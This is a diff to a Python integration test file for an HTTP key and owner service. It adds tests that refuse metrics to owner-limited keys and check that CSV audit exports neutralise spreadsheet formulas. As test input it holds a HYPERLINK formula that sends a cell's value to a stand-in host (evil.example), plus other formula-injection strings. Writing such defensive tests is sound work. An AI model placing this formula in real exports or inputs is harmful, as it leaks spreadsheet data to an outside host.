@@ -1,13 +1,17 @@
-"""Keys and owners over HTTP, on SQLite and PostgreSQL."""
+"""Keys and owners over HTTP, on SQLite and PostgreSQL: request ids per owner, revocation
+across servers, metrics to unrestricted keys, and CSV a spreadsheet cannot run."""
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import Iterator
 from dataclasses import dataclass
 from typing import Any
 
 import pytest
 from fastapi.testclient import TestClient
+from freezegun import freeze_time
 from sqlalchemy import Engine
 
 from aria.api.app import create_app
@@ -15,6 +19,7 @@ from aria.service.keys import create_key, revoke_key
 from storage.engine import make_engine
 from tests.integration.conftest import make_context
 
+NOW = "2026-06-02 09:00:00"
 STATE = {"balance": "100000", "equity": "100000", "as_of": "2026-06-02T08:59:00Z", "positions": []}
 SIGNAL = {"symbol": "GBPUSD", "side": "long", "entry": "1.2700", "stop": "1.2600"}
 
@@ -77,3 +82,36 @@ def test_a_revoked_key_is_refused_at_once_by_every_server(desk: Desk) -> None:
 def make_context_of(desk: Desk) -> Any:
     """The service context of the first server (keys are issued and revoked through it)."""
     return desk.client.app.state.context  # type: ignore[attr-defined]
+
+
+def test_metrics_are_refused_to_an_owner_limited_key(desk: Desk) -> None:
+    refused = desk.client.get("/metrics", headers=desk.alice)
+    assert refused.status_code == 403
+    assert "not limited to an owner" in refused.json()["error"]["message"]
+    assert "aria_decisions" not in refused.text
+    assert desk.client.get("/metrics", headers=desk.admin).status_code == 200
+
+
+@freeze_time(NOW)
+def test_csv_exports_cannot_carry_a_formula_into_a_spreadsheet(desk: Desk) -> None:
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    context = make_context_of(desk)
+    token = create_key(context, "@SUM(1+1)", ["admin"]).token  # the actor of the events
+    for action, reason in (("disable", attack), ("enable", "-2+3")):
+        changed = desk.client.post(
+            f"/v1/accounts/alice-1/{action}", json={"reason": reason}, headers=_bearer(token)
+        )
+        assert changed.status_code == 200, changed.text
+    text = desk.client.get("/v1/audit/events?format=csv&account=alice-1", headers=desk.admin).text
+    rows = list(csv.DictReader(io.StringIO(text)))
+    reasons = {"'" + attack, "'-2+3"}
+    assert reasons <= {row["reason"] for row in rows}
+    assert {row["actor"] for row in rows if row["reason"] in reasons} == {"'@SUM(1+1)"}
+    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
+    # Numbers stay numbers: a negative amount is not text.
+    sized = _size(desk.client, desk.admin, "r-1", ["alice-1"])
+    assert sized.status_code == 200, sized.text
+    decisions = desk.client.get("/v1/audit/decisions?format=csv", headers=desk.admin).text
+    (row,) = csv.DictReader(io.StringIO(decisions))
+    assert row["request_id"] == "r-1"
+    assert not row["risk_amount"].startswith("'")
